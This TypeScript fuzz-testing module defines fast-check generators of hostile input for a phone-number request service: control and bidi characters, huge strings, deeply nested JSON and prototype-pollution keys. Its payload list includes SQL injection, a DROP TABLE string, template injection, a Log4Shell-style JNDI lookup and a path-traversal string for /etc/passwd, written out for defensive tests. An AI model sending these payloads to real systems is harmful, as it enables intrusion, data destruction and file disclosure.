import fc from 'fast-check';

/**
 * Arbitraries (fast-check) of what an attacker or a broken client sends, for the fuzz suites of the
 * edges: nothing here is ever a valid phone number, so a request built with `hostileValue` in its
 * phone field can never be accepted (and store anything).
 */

/** Invisible and dangerous characters: C0/C1 controls, NUL, bidi overrides and isolates, zero-width, BOM, a lone surrogate. */
export const controlCharacter = fc.constantFrom(
  '\u0000',
  '\u0007',
  '\u0008',
  '\u001b',
  '\u007f',
  '\u0085',
  '\u2028',
  '\u2029',
  '\u200b',
  '\u200d',
  '\u200e',
  '\u200f',
  '\u202a',
  '\u202b',
  '\u202d',
  '\u202e',
  '\u2066',
  '\u2067',
  '\u2068',
  '\u2069',
  '\ufeff',
  '\ud800',
  '\uffff',
);

/** Keys that reach an object's prototype when a parser or a spread is careless. */
export const PROTOTYPE_KEYS = ['__proto__', 'constructor', 'prototype'] as const;

/** Words that mean something to some layer: numbers JSON cannot hold, SQL, templates, paths, keys. */
const tricky = fc.constantFrom(
  '',
  ' ',
  '1e309',
  '-0',
  'NaN',
  'Infinity',
  '0x1f',
  'null',
  'undefined',
  'true',
  "' OR 1=1 --",
  '"; DROP TABLE otp_requests; --',
  '{{7*7}}',
  '${jndi:ldap://example.invalid/a}',
  '../../../etc/passwd',
  '%00',
  '%2B%2B',
  '+',
  '+91',
  '+91 98765 4321O',
  '٩٨٧٦٥٤٣٢١٠',
  ...PROTOTYPE_KEYS,
  'toString',
  'hasOwnProperty',
);

/** Text mixing printable pieces and control or bidi characters. */
const salted = fc
  .array(fc.oneof(fc.string({ maxLength: 6 }), controlCharacter, tricky), { maxLength: 8 })
  .map((parts) => parts.join(''));

/** Long strings (up to 20,000 characters), past every field's limit. */
export const hugeString = fc
  .tuple(fc.integer({ min: 300, max: 20_000 }), fc.constantFrom('9', 'x', '\u202e', 'é', '😀'))
  .map(([length, unit]) => unit.repeat(length));

export const hostileString = fc.oneof(
  { arbitrary: tricky, weight: 3 },
  { arbitrary: salted, weight: 4 },
  { arbitrary: fc.string({ unit: 'binary', maxLength: 40 }), weight: 2 },
  { arbitrary: hugeString, weight: 1 },
);

/** A nest of arrays or objects `depth` deep, e.g. `[[[…]]]` (parsers that recurse). */
const deepNest = fc.tuple(fc.integer({ min: 20, max: 400 }), fc.boolean()).map(([depth, arrays]) => {
  let value: unknown = 1;
  for (let i = 0; i < depth; i += 1) value = arrays ? [value] : { a: value };
  return value;
});

/** Any JSON value of the wrong type for a string field, or a hostile string. */
export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  { arbitrary: hostileString, weight: 4 },
  {
    arbitrary: fc.oneof(fc.integer(), fc.double({ noNaN: true }), fc.boolean(), fc.constant(null)),
    weight: 2,
  },
  { arbitrary: fc.array(fc.jsonValue({ maxDepth: 2 }), { maxLength: 3 }), weight: 1 },
  {
    arbitrary: fc.dictionary(
      fc.oneof(fc.constantFrom(...PROTOTYPE_KEYS), fc.string()),
      fc.jsonValue({ maxDepth: 1 }),
    ),
    weight: 1,
  },
  { arbitrary: deepNest, weight: 1 },
);

/**
 * An object (as JSON text) with some of `fields` set to hostile values — always the first one, so a
 * request whose first field must be valid is always refused — and prototype-pollution keys sprinkled
 * in as own keys (`"__proto__": {…}` written in the text, where a careless parser would follow it).
 */
export function hostileObjectText(
  fields: readonly [string, ...string[]],
  extra: fc.Arbitrary<unknown> = hostileValue,
) {
  return fc
    .tuple(
      hostileValue,
      fc.subarray(fields.slice(1)),
      fc.array(extra, { minLength: fields.length, maxLength: fields.length }),
      fc.subarray([...PROTOTYPE_KEYS]),
    )
    .map(([first, others, values, pollution]) => {
      const parts = [`${JSON.stringify(fields[0])}:${JSON.stringify(first) ?? 'null'}`];
      others.forEach((name, i) =>
        parts.push(`${JSON.stringify(name)}:${JSON.stringify(values[i]) ?? 'null'}`),
      );
      for (const key of pollution) {
        const polluted = key === 'constructor' ? { prototype: { polluted: 'yes' } } : { polluted: 'yes' };
        parts.push(`${JSON.stringify(key)}:${JSON.stringify(polluted)}`);
      }
      return `{${parts.join(',')}}`;
    });
}

/** A query string (`a=1&b=2`, no `?`) of these keys and hostile values, some keys repeated, percent-encoded. */
export function hostileQuery(keys: readonly string[]) {
  const key = fc.oneof(fc.constantFrom(...keys, ...PROTOTYPE_KEYS), fc.string({ maxLength: 8 }));
  return fc
    .array(fc.tuple(key, fc.oneof(hostileString, fc.string({ maxLength: 12 }))), { maxLength: 8 })
    .chain((pairs) => fc.subarray(pairs).map((repeats) => [...pairs, ...repeats]))
    .map((pairs) =>
      pairs
        .map(([name, value]) => `${encodeURIComponent(name)}=${encodeURIComponent(safeText(value))}`)
        .join('&'),
    );
}

/** A string without lone surrogates (encodeURIComponent throws on them), each replaced by U+FFFD. */
export function safeText(text: string): string {
  return text.replace(/[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/g, '\ufffd');
}
